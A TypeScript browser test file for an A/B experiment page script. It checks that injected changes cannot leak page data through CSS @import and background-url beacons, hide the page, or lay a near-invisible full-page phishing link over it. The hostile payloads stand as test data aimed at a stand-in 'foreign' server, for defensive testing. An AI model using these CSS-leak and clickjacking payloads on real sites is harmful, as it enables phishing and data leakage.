import Fastify, { type FastifyInstance } from 'fastify';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Change } from '../src/contract/experiments.js';
import { startExperimentHarness, visitorIn, type ExperimentHarness } from './support/experiment-harness.js';
import { pause } from './support/tracker-harness.js';

// Issue 41 §2 and §3, in Chromium on the demo site's pricing page: what an experiments key could make
// every visitor's browser do. Each change is served to the page script as it stands, as a test stored
// before the API refused it (or imported) would be: the page script itself must hold the line.
let h: ExperimentHarness;
let elsewhere: FastifyInstance;
let foreign = '';
const asked: string[] = [];
beforeAll(async () => {
  h = await startExperimentHarness();
  // Another site: whatever the page asks of it is a leak (a stylesheet, a beacon) or a hijack (a click).
  elsewhere = Fastify();
  elsewhere.get('/*', async (request, reply) => {
    asked.push(request.url);
    if (request.url.endsWith('.css')) return reply.type('text/css').send('body { display: none }');
    return reply.type('text/html').send('<h1>Phished</h1>');
  });
  foreign = await elsewhere.listen({ host: '127.0.0.1', port: 0 });
});
afterEach(async () => {
  await h.reset();
  asked.length = 0;
});
afterAll(async () => {
  await h.close();
  await elsewhere.close();
});

/** Opens the pricing page as a visitor in the variant that makes `changes`. */
async function pricingWith(changes: Change[]) {
  h.setConfig({
    experiments: [
      { id: 'exp_bounds', page: '/demo/pricing', type: 'nocode', variants: [{ changes: [] }, { changes }] },
    ],
  });
  const tab = await (await h.person(visitorIn(['exp_bounds', 2, 1]))).newPage();
  await tab.goto(`${h.origin}/demo/pricing`);
  return tab;
}

describe('a change in the browser', () => {
  it('cannot restyle the page or read it out: changes to its styles, scripts and head are skipped', async () => {
    const readOut = `@import url("${foreign}/x.css"); a[href^="/demo/signup"] { background: url("${foreign}/beacon.png") }`;
    const tab = await pricingWith([
      { selector: 'head', op: 'html', value: `<style>${readOut}</style>` },
      { selector: ':is(link)', op: 'delete', value: '' },
      { selector: 'link[rel=stylesheet]', op: 'duplicate', value: '' },
      { selector: 'title', op: 'text', value: 'Acme is closed' },
      { selector: 'html', op: 'text', value: 'gone' },
      // A content change in the same variant applies: the variant ran, only the rest was refused.
      { selector: '.signup-link', op: 'text', value: 'Try it free' },
    ]);
    await expect.poll(() => tab.locator('.signup-link').textContent()).toBe('Try it free');
    await pause(1_000);
    const page = await tab.evaluate(() => ({
      stylesheets: document.querySelectorAll('link[rel=stylesheet]').length,
      title: document.title,
      heading: document.querySelector('h1')?.textContent?.trim(),
      pageStyles: Array.from(document.querySelectorAll('style'), (s) => s.textContent),
      bodyShown: getComputedStyle(document.body).display !== 'none',
    }));
    expect(page).toEqual({
      stylesheets: 1,
      title: expect.not.stringMatching(/closed/),
      heading: expect.stringMatching(/pricing/i),
      // none added, and the page script adds no <style> of its own (it hides through an adopted stylesheet)
      pageStyles: [],
      bodyShown: true,
    });
    expect(asked).toEqual([]);
  });

  it('cannot reach a style element by class either, nor the page script’s own hiding rule', async () => {
    h.page(
      '/demo/pricing',
      (await (await fetch(`${h.origin}/demo/pricing`)).text()).replace(
        '</head>',
        '<style class="theme">.theme-probe { color: rgb(1, 2, 3) }</style></head>',
      ),
    );
    const tab = await pricingWith([
      { selector: '.theme', op: 'text', value: `@import url("${foreign}/x.css");` },
      { selector: ':is(style)', op: 'delete', value: '' },
      { selector: '.signup-link', op: 'text', value: 'Try it free' },
    ]);
    await expect.poll(() => tab.locator('.signup-link').first().textContent()).toBe('Try it free');
    await pause(1_000);
    expect(await tab.evaluate(() => Array.from(document.querySelectorAll('style'), (s) => s.textContent))).toEqual([
      '.theme-probe { color: rgb(1, 2, 3) }',
    ]);
    expect(asked).toEqual([]);
  });

  it('cannot lay a link over the page: no style, off-site link or command attribute survives, no css positions', async () => {
    const overlay =
      `<a id="overlay" href="${foreign}/phish" style="position:fixed;inset:0;z-index:99999;opacity:0.01">win</a>` +
      `<a id="relative" href="//${new URL(foreign).host}/phish">more</a>` +
      `<a id="own" href="/demo/signup">own</a>` +
      `<button id="commander" commandfor="x" command="show-modal" popovertarget="y" popovertargetaction="show">b</button>`;
    const tab = await pricingWith([
      { selector: '.demo-note', op: 'html', value: overlay },
      {
        selector: '.pricing-link',
        op: 'css',
        value: { position: 'fixed', inset: 0, zIndex: 99999, transform: 'scale(50)', color: 'rgb(1, 2, 3)' },
      },
    ]);
    await tab.locator('#overlay').waitFor({ state: 'attached' });
    await expect
      .poll(() => tab.locator('.pricing-link').evaluate((el) => getComputedStyle(el).color))
      .toBe('rgb(1, 2, 3)');
    const inserted = await tab.evaluate(() =>
      ['overlay', 'relative', 'own', 'commander'].map((id) => document.getElementById(id)!.getAttributeNames()),
    );
    expect(inserted).toEqual([['id'], ['id'], ['id', 'href'], ['id']]);
    const link = await tab.locator('.pricing-link').evaluate((el) => {
      const css = getComputedStyle(el);
      return [css.position, css.zIndex, css.transform];
    });
    expect(link).toEqual(['static', 'auto', 'none']);

    // The attack's click: in the middle of the page, where the overlay would have been.
    await tab.mouse.click(400, 600);
    await pause(1_000);
    expect(new URL(tab.url()).origin).toBe(h.origin);
    expect(asked).toEqual([]);
  });
});
